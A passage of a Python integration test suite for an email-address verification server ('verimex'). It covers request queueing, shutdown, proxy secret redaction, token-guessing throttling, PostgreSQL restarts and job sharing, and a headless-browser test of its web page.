                                                              method="vrfy"))[0], 201)
        metric = lambda text: wait_for(lambda: text in server.request("GET", "/metrics")[2])  # noqa: E731
        # One check runs (2 s against the mute server), then one waits (10 s, so that it is still
        # running at the SIGTERM below however busy the machine); the third finds no room.
        running = server.send("GET", check_path("x@mute.server.test", timeout=2, method="vrfy"))
        self.assertTrue(metric(b'verimex_checks_in_flight{source="single"} 1'))
        waiting = server.send("GET", check_path("x@mute.server.test", timeout=10, method="vrfy"))
        self.assertTrue(metric(b"verimex_checks_queued 1"))
        status, head, body = server.json("GET", check_path("alice@yes.server.test"))
        self.assertEqual((status, head["Retry-After"], body),
                         (503, "1", {"error": "too many checks waiting; try again later"}))
        self.assertEqual(server.answer(running, True)[2]["returnvar"], golden("timed_out", 2))
        # Room again once the waiting one runs; then SIGTERM: the running check finishes, the waiting one is sent away.
        self.assertTrue(metric(b"verimex_checks_queued 0"))
        late = server.send("GET", check_path("alice@yes.server.test"))
        self.assertTrue(metric(b"verimex_checks_queued 1"))
        self.assertTrue(wait_for(lambda: server.json("GET", "/v1/jobs/long")[2]["running"] >= 1))
        start = time.monotonic()
        status, out, err = server.stop(signal.SIGTERM)
        self.assertEqual((status, out.strip()), (0, "verimex-server: stopped"), err)
        self.assertLess(time.monotonic() - start, 20)
        self.assertEqual(server.answer(waiting, True)[2]["returnvar"], golden("timed_out", 10))
        status, head, body = server.answer(late, True)
        self.assertEqual((status, head["Retry-After"], body), (503, "5", {"error": "the server is stopping"}))
        # Started again on the same store with other settings: the job ends with those stored with it (method vrfy,
        # 3 s), not the server's.
        server = self.start(*FAST, "-j", "4", "-t", "2", "--store", store)
        self.assertTrue(wait_for(lambda: server.json("GET", "/v1/jobs/long")[2]["done"] == 24, timeout=60))
        rows = server.rows("/v1/jobs/long/results")
        self.assertEqual([(r["address"], r["state"]) for r in rows], [(a, "done") for a in addresses])
        self.assertEqual(sum(r["verified"] for r in rows), 20)
        self.assertEqual([r["returnvar"] for r in rows[:4]], [golden("timed_out", 3)] * 4)
        self.assertEqual({r["method"] for r in rows[4:]}, {"vrfy"})

    def test_proxy_of_the_server(self):
        # Nothing listens on the proxy's port: every check says so, and the password shows nowhere.
        secret = "pr0xy-pa55"
        server = self.start(*FAST, "-t", "5", "--proxy", "socks5://user:%s@127.0.0.1:1" % secret)
        status, _, got = server.json("GET", check_path("alice@rcpt.server.test"))
        self.assertEqual((status, got["verdict"], got["reason"]), (200, "unknown", "proxy_error"))
        status, _, got = server.json("GET", check_path("alice@rcpt.server.test", method="vrfy"))
        self.assertEqual((status, got), (400, {"error": "method: vrfy connects directly, and this server sends its "
                                                        "checks through a proxy"}))
        self.assertEqual(server.json("POST", "/v1/jobs", {"addresses": ["a@b"], "method": "vrfy"})[0], 400)
        self.assertNotIn(secret, json.dumps(got) + server.stderr())
        run = subprocess.run([SERVER, "--help"], capture_output=True, timeout=30,
                             env=dict(os.environ, VERIMEX_PROXY="socks5://u:%s@127.0.0.1:1" % secret))
        self.assertEqual(run.returncode, 0)
        self.assertIn(b"--proxy", run.stdout)
        self.assertNotIn(secret.encode(), run.stdout + run.stderr)

    def test_token_file_and_the_brake_on_guessing(self):
        folder = self.enterContext(tempfile.TemporaryDirectory(prefix="verimex-token."))
        with open(folder + "/token", "w") as f:
            f.write("from-a-file\r\n")
        server = self.start("--token-file", folder + "/token")
        right, wrong = {"Authorization": "Bearer from-a-file"}, {"Authorization": "Bearer guess"}

        def took(headers, expect):
            start = time.monotonic()
            status, head, _ = server.request("GET", "/v1/jobs", headers=headers)
            self.assertEqual(status, expect)
            return time.monotonic() - start, head

        self.assertEqual(took(right, 200)[1].get("Content-Type"), "application/json; charset=utf-8")
        # Five failures for free, then 250 ms doubling up to 2 s; a success starts the count again.
        for rounds in range(2):
            waits = [took(wrong, 401)[0] for _ in range(9)]
            self.assertTrue(all(w < 0.2 for w in waits[:5]), waits)
            for wait, least in zip(waits[5:], [0.25, 0.5, 1.0, 2.0]):
                self.assertTrue(least <= wait < least + 1.0, waits)
            self.assertLess(took(right, 200)[0], 0.2)
        for _ in range(6):
            took(wrong, 401)
        # Four requests at most wait in the brake; the others are refused at once.
        conns = [server.send("GET", "/v1/jobs", headers=wrong) for _ in range(7)]
        answers = [server.answer(c, True) for c in conns]
        self.assertEqual(sorted(a[0] for a in answers), [401] * 4 + [429] * 3, answers)
        self.assertEqual({a[1].get("Retry-After") for a in answers if a[0] == 429}, {"2"})
        self.assertEqual({a[2]["error"] for a in answers if a[0] == 429},
                         {"too many failed token checks; try again later"})

    def test_exit_statuses(self):
        holder = self.enterContext(socket.create_server(("127.0.0.1", 0)))
        first = self.start(*FAST)  # a second server on its port is refused, not started beside it
        store = ["--listen", "127.0.0.1:0", "--store"]
        cases = [  # arguments, exit status, what stderr holds
            (["--listen", "127.0.0.1:%d" % holder.getsockname()[1]], 3, b"cannot listen"),
            (["--listen", "127.0.0.1:%d" % first.port], 3,
             b"verimex-server: cannot listen on 127\\.0\\.0\\.1:%d \\(Address already in use, errno 98\\)" % first.port),
        ] + [(store + [s], 3, b"^verimex-server: ") for s in ["/nonexistent/jobs.sqlite", "postgresql://x@127.0.0.1:1"]
        ] + [(args, 2, b"^verimex-server: ") for args in [["--listen", "nowhere"], ["--listen", "1.2.3.4:99999"],
                                                           ["-t", "40000"], ["-j", "0"], ["--bogus"],
                                                           ["--store-connections", "0"], ["--store-connections", "65"],
                                                           ["--proxy", "http://u:pw@127.0.0.1:1"],
                                                           ["--token-file", "/nonexistent/token"],
                                                           ["--token-file", "/dev/null"],
                                                           ["--token", "x", "--token-file", "/dev/null"]]]
        for args, code, message in cases:
            with self.subTest(args=args), tempfile.TemporaryDirectory() as folder:
                run = subprocess.run([SERVER, *args], capture_output=True, timeout=30, cwd=folder)
                self.assertEqual(run.returncode, code)
                self.assertRegex(run.stderr, message)

    def postgres(self, port):
        """A throw-away PostgreSQL cluster on 127.0.0.1:port, stopped at the end of the test. Returns its
        store URI and the functions that stop (fast shutdown) and start it again."""
        if os.geteuid() != 0 or not os.path.exists("/usr/lib/postgresql/15/bin/initdb"):
            self.skipTest("needs root, to run PostgreSQL as its own user, and Debian's postgresql package")
        folder = self.enterContext(tempfile.TemporaryDirectory(prefix="verimex-server-pg."))
        os.chown(folder, pwd.getpwnam("postgres").pw_uid, pwd.getpwnam("postgres").pw_gid)
        # initdb and postgres as the unprivileged "postgres" user, on 127.0.0.1 only.
        pg, at = "/usr/lib/postgresql/15/bin/", ["-h", "127.0.0.1", "-p", str(port)]
        quiet = dict(cwd=folder, user="postgres", group="postgres", extra_groups=[], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        subprocess.run([pg + "initdb", "-D", folder + "/data", "-A", "trust", "-U", "verimex", "-E", "UTF8",
                        "--no-locale", "--no-sync"], check=True, **quiet)
        running = []

        def start():
            running.append(subprocess.Popen([pg + "postgres", "-D", folder + "/data", "-k", folder, *at, "-c",
                                             "fsync=off"], **quiet))
            self.assertTrue(wait_for(lambda: running[-1].poll() is None and subprocess.run(
                [pg + "pg_isready", "-q", *at]).returncode == 0, timeout=30, step=0.05), "postgres did not come up")

        def stop():
            proc = running.pop()
            proc.send_signal(signal.SIGINT)  # fast shutdown: open connections are cut
            proc.wait(timeout=30)

        self.addCleanup(lambda: running and stop())
        start()
        subprocess.run([pg + "createdb", *at, "-U", "verimex", "verimex"], check=True, **quiet)
        return "postgresql://verimex@127.0.0.1:%d/verimex" % port, stop, start

    def test_a_restarted_postgresql_stops_the_service_only_while_it_is_down(self):
        uri, stop, start = self.postgres(55434)
        server = self.start("--store", uri, "-j", "2", "-t", "10", "--mx-interval", "0", "--per-mx", "8")
        addresses = ["r%03d@yes.server.test" % i for i in range(60)]
        self.assertEqual(server.json("POST", "/v1/jobs", body={"addresses": addresses, "name": "restart"})[0], 201)
        self.assertTrue(wait_for(lambda: server.json("GET", "/v1/jobs/restart")[2]["done"] >= 5, timeout=60))
        stop()
        # Down: the service says so, and the job calls answer 503 with a time to come back.
        status, headers, body = server.json("GET", "/healthz")
        self.assertEqual((status, body), (503, {"status": "store_unavailable", "store": "postgresql"}))
        self.assertEqual(headers.get("Retry-After"), "5")
        self.assertEqual(server.json("GET", "/v1/jobs")[0], 503)
        start()
        # Back: the server's connections are opened again by themselves, and its workers finish the job.
        self.assertTrue(wait_for(lambda: server.json("GET", "/healthz")[0] == 200, timeout=30))
        self.assertEqual(server.json("GET", "/v1/jobs")[0], 200)
        self.assertTrue(wait_for(lambda: server.json("GET", "/v1/jobs/restart")[2]["done"] == 60, timeout=90))
        rows = server.rows("/v1/jobs/restart/results")
        self.assertEqual([(r["address"], r["state"], r["verified"]) for r in rows],
                         [(a, "done", True) for a in addresses])
        # A result the server wrote as it went down may be written, never twice.
        self.assertTrue(all(r["attempts"] in (1, 2) for r in rows), [r["attempts"] for r in rows])

    def test_fleet_server_and_verimex_check_share_a_job_on_postgresql(self):
        uri, stop_postgres, _ = self.postgres(55433)
        fast = ["-t", "10", "--mx-interval", "0", "--per-mx", "8"]
        server = self.start("--store", uri, "-j", "1", *fast)
        # Enough that the server's one worker is far from done when the second worker starts.
        addresses = ["u%03d@yes.server.test" % i for i in range(150)] + ["v%03d@no.server.test" % i for i in range(50)]
        status, _, body = server.json("POST", "/v1/jobs", body={"addresses": addresses, "name": "fleet"})
        self.assertEqual((status, body), (201, {"job": "fleet", "added": 200, "duplicates": 0}))
        # A worker of its own joins the job on the store, as one on another machine would, and leaves at its end;
        # one address a session, so that it does not finish the job before the server's worker looks, and the
        # two take sessions of both sizes from one job.
        run = subprocess.run([os.environ["VERIMEX_CHECK"], "--store", uri, "--job", "fleet", "-j", "4", *fast,
                              "--recipients-per-session", "1", "--json"],
                             stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
        self.assertIn(run.returncode, (0, 1), run.stderr)
        by_check = [json.loads(line)["address"] for line in run.stdout.decode().splitlines()]
        self.assertTrue(wait_for(lambda: server.json("GET", "/v1/jobs/fleet")[2]["done"] == 200, timeout=60))
        self.assertEqual([(r["address"], r["attempts"], r["state"], r["verified"]) for r in server.rows(
            "/v1/jobs/fleet/results")], [(a, 1, "done", "@yes." in a) for a in addresses])
        # Both took part, and nothing was checked twice.
        by_server = sum(int(n) for n in re.findall(rb'^verimex_checks_total\{source="job",result="[a-z_]+"\} (\d+)$',
                                                   server.request("GET", "/metrics")[2], re.M))
        self.assertEqual((len(set(by_check)), by_server + len(by_check)), (len(by_check), 200))
        self.assertTrue(by_server > 0 and len(by_check) > 0, by_server)
        # With the database gone a client learns that the store failed and under which id the log says why; the
        # database's own words (host, user, database) stay in the log.
        stop_postgres()
        status, headers, body = server.json("GET", "/v1/jobs")
        self.assertEqual((status, headers.get("Retry-After")), (503, "5"))
        m = re.fullmatch(r"store unavailable \(error ([0-9a-f]{8}) in the server's log\)", body["error"])
        self.assertTrue(m, body)
        self.assertRegex(server.stderr(), r"event=store_error id=%s error=" % m.group(1))

    def test_store_connections_are_lent_per_call_and_a_slow_export_holds_none(self):
        uri, _, _ = self.postgres(55435)
        server = self.start("--store", uri, "--store-connections", "1", *FAST)
        # Far more than the sockets' buffers hold, so that the export below waits on its client mid-way.
        addresses = ["x%05d@nomx.server.test" % i for i in range(30000)]
        self.assertEqual(server.json("POST", "/v1/jobs", body={"addresses": addresses, "name": "big"})[0], 201)
        slow = socket.socket()
        slow.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        slow.connect(("127.0.0.1", server.port))
        self.addCleanup(slow.close)
        slow.sendall(b"GET /v1/jobs/big/results HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        received = slow.recv(1024)
        self.assertTrue(received.startswith(b"HTTP/1.1 200"), received)
        # The download stalls in the server's write, between pages: the one connection serves the others.
        for _ in range(3):
            began = time.monotonic()
            status, _, body = server.json("GET", "/v1/jobs/big")
            self.assertEqual((status, body.get("total")), (200, 30000), body)
            self.assertLess(time.monotonic() - began, 1.5)
        while chunk := slow.recv(1 << 16):
            received += chunk
        # The whole export all the same: every address once, in order.
        rest, pieces = received.split(b"\r\n\r\n", 1)[1], []
        while not rest.startswith(b"0\r\n"):
            size, rest = rest.split(b"\r\n", 1)
            pieces.append(rest[:int(size, 16)])
            rest = rest[int(size, 16) + 2:]
        self.assertEqual([json.loads(line)["address"] for line in b"".join(pieces).splitlines()], addresses)

        # A request that holds the one connection (its statement waits on a lock another session of the database
        # holds): the others wait 2 s for it, then are told to come back, each in its own route's terms.
        lock = subprocess.Popen(["psql", "-q", "-v", "ON_ERROR_STOP=1", uri], stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        self.addCleanup(lambda: (lock.poll() is None and (lock.kill(), lock.wait()), lock.stdout.close()))
        lock.stdin.write(b"BEGIN; LOCK TABLE verimex_jobs IN ACCESS EXCLUSIVE MODE; SELECT 'locked';\n")
        lock.stdin.flush()
        self.assertIn(b"locked", lock.stdout.readline() + lock.stdout.readline() + lock.stdout.readline())
        held = server.send("GET", "/v1/jobs/big")
        time.sleep(0.5)  # its statement is waiting on the lock
        busy = {"error": "store busy; try again later"}
        for path in ["/v1/jobs", "/v1/jobs/big/results", "/healthz"]:
            began = time.monotonic()
            status, headers, body = server.json("GET", path)
            self.assertEqual((status, headers.get("Retry-After"), body), (503, "1", busy), path)
            self.assertGreaterEqual(time.monotonic() - began, 1.9, path)
        # /metrics still has the server's own figures, without the store's.
        status, _, text = server.request("GET", "/metrics")
        self.assertEqual(status, 200)
        self.assertIn(b"verimex_checks_in_flight", text)
        self.assertNotIn(b"\nverimex_jobs ", text)
        lock.stdin.write(b"COMMIT;\n")
        lock.stdin.close()
        lock.wait(timeout=10)
        status, _, body = server.answer(held, True)
        self.assertEqual((status, body["total"]), (200, 30000))
        self.assertEqual(server.json("GET", "/healthz")[:3:2], (200, {"status": "ok"}))


class Page(ServerTest):
    def test_page_runs_a_job_from_list_to_download(self):
        # Any JavaScript error in the browser's console fails it.
        server = self.start("--token", "page-token", "-t", "10", "--mx-interval", "0", "--per-mx", "8")
        folder = self.enterContext(tempfile.TemporaryDirectory(prefix="verimex-page-test."))
        options = webdriver.ChromeOptions()
        options.binary_location = "/usr/bin/chromium"
        for arg in ["headless=new", "no-sandbox", "disable-dev-shm-usage", "disable-gpu", "no-first-run",
                    "disable-extensions", "disable-background-networking", "window-size=1280,1000",
                    "user-data-dir=" + folder + "/profile"]:
            options.add_argument("--" + arg)
        options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
        d = self.enterContext(webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options))
        d.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": folder})
        wait = WebDriverWait(d, 60, poll_frequency=0.1)
        el = lambda element_id: d.find_element(By.ID, element_id)  # noqa: E731
        result_rows = lambda: d.find_elements(By.CSS_SELECTOR, "#results tbody tr.result-row")  # noqa: E731

        # The server wants a token: the page asks for it.
        d.get("http://127.0.0.1:%d/" % server.port)
        wait.until(lambda _: el("token-line").is_displayed())
        self.assertIn("token", el("message").text)
        el("token").send_keys("page-token")
        el("token-save").click()
        el("addresses").send_keys("\n".join(["# a comment", ""] + ADDRESSES + [ADDRESSES[0]]))
        el("job-name").send_keys("browser")
        # The component's check, whose outcomes the counts by reply name.
        Select(el("method")).select_by_value("vrfy")
        el("start").click()
        wait.until(lambda _: el("state").text == "finished")  # the counts and table as the job ends
        self.assertIn("Job browser: 6 addresses added, 1 repeats left out.", el("message").text)
        self.assertEqual([el(i).text for i in ["job-shown", "done", "total"]], ["browser", "6", "6"])
        self.assertEqual({key: int(el("count-" + key).text) for key in COUNTS}, COUNTS)
        self.assertEqual(el("bar-fill").get_attribute("style"), "width: 100%;")
        el("job").location_once_scrolled_into_view
        d.save_screenshot(os.path.join(os.environ.get("VERIMEX_SCREENSHOT_DIR", folder), "page-job.png"))
        cells = [r.find_elements(By.TAG_NAME, "td") for r in wait.until(lambda _: len(result_rows()) == 6
                                                                         and result_rows())]
        self.assertEqual([c[1].text for c in cells], ADDRESSES)
        # Each row's verdict, reason and the reply that decided; the verdicts' bar, counts and reasons.
        self.assertEqual([(c[2].text, c[3].text) for c in cells[:4]], [
            ("deliverable", "accepted"), ("undeliverable", "no such mailbox"), ("unknown", "could not connect"),
            ("undeliverable", "no mail server")])
        self.assertEqual((cells[0][4].text, cells[1][4].text), ("250 2.0.0", REJECT))
        self.assertEqual({v: int(el("verdict-" + v).text) for v in ["deliverable", "undeliverable", "risky",
                                                                     "unknown"]},
                         {"deliverable": 3, "undeliverable": 2, "risky": 0, "unknown": 1})
        self.assertEqual([(s.get_attribute("data-verdict"), s.get_attribute("style")) for s in
                          d.find_elements(By.CSS_SELECTOR, "#verdict-bar span")],
                         [("deliverable", "width: 50%;"), ("undeliverable", "width: 33.33%;"),
                          ("unknown", "width: 16.67%;")])
        self.assertEqual([[td.text for td in r.find_elements(By.TAG_NAME, "td")] for r in d.find_elements(
            By.CSS_SELECTOR, "#reasons tbody tr")], [["deliverable", "accepted", "3"],
                                                     ["undeliverable", "no such mailbox", "1"],
                                                     ["undeliverable", "no mail server", "1"],
                                                     ["unknown", "could not connect", "1"]])
        self.assertEqual(el("verdict-note").text, "")
        Select(el("filter")).select_by_value("undeliverable")
        self.assertEqual([r.find_elements(By.TAG_NAME, "td")[1].text for r in result_rows()], ADDRESSES[1:2] +
                         ADDRESSES[3:4])
        Select(el("reason-filter")).select_by_value("no_mail_server")
        self.assertEqual([r.find_elements(By.TAG_NAME, "td")[1].text for r in result_rows()], ADDRESSES[3:4])
        Select(el("reason-filter")).select_by_value("")
        # The address that carries markup is shown as text and ran nothing.
        self.assertEqual((d.find_elements(By.CSS_SELECTOR, "#results img"), d.title), ([], "verimex"))
        # A transcript on demand.
        Select(el("filter")).select_by_value("pending")
        self.assertEqual(result_rows(), [])
        Select(el("filter")).select_by_value("")
        result_rows()[2].find_element(By.CSS_SELECTOR, "button.show-transcript").click()
        self.assertIn("ERROR: could not connect to mx.down.server.test",
                      d.find_element(By.CSS_SELECTOR, "#results tr.transcript pre").text)
        # The CSV download, with the token, as a file.
        el("download-csv").click()
        path = os.path.join(folder, "browser.csv")
        self.assertTrue(wait_for(lambda: os.path.exists(path), timeout=30, step=0.1))
        time.sleep(0.3)  # there once whole (renamed from .crdownload), but let it settle
        with open(path, newline="", encoding="utf-8") as f:
            self.assertEqual([row[:3:2] for row in csv.reader(f)], [["address", "verified"]] + [
                [a, str("@yes." in a).lower()] for a in ADDRESSES])
        # One address checked at once, from the same page, with the method chosen: each verdict as a badge
        # with its reason and the reply that decided.
        Select(el("method")).select_by_value("auto")
        for address, verdict, line in [
                ("alice@rcpt.server.test", "deliverable", "alice@rcpt.server.test: accepted: 250 2.1.5"),
                ("nosuchuser7@rcpt.server.test", "undeliverable",
                 "nosuchuser7@rcpt.server.test: no such mailbox: 550 5.1.1 <nosuchuser7@rcpt.server.test>"),
                ("anyone@all.server.test", "risky", "anyone@all.server.test: accept all: 250 2.1.5"),
                ("carol@down.server.test", "unknown", "carol@down.server.test: could not connect")]:
            el("check-email").clear()
            el("check-email").send_keys(address)
            el("check").click()
            wait.until(lambda _: el("check-line").text.startswith(address + ":"))
            self.assertEqual((el("check-badge").text, el("check-badge").get_attribute("class")),
                             (verdict, "badge " + verdict))
            self.assertTrue(el("check-line").text.startswith(line), el("check-line").text)
            if verdict == "risky":
                d.save_screenshot(os.path.join(os.environ.get("VERIMEX_SCREENSHOT_DIR", folder), "page-check.png"))
        el("mail-from").send_keys("page@sender.server.test")
        el("check-email").clear()
        el("check-email").send_keys("alice@rcpt.server.test")
        el("check").click()
        wait.until(lambda _: "MAIL FROM:<page@sender.server.test>" in el("check-result").text)
        Select(el("method")).select_by_value("vrfy")
        el("check-email").clear()
        el("check-email").send_keys("bob@no.server.test")
        el("check").click()
        wait.until(lambda _: el("check-line").text.startswith("bob@no.server.test:"))
        self.assertEqual(el("check-line").text, "bob@no.server.test: " + REJECT)
        self.assertFalse(el("check-badge").is_displayed())
        self.assertEqual([e for e in d.get_log("browser") if e["level"] in ("SEVERE", "ERROR")
                          and "401 (Unauthorized)" not in e["message"]], [])
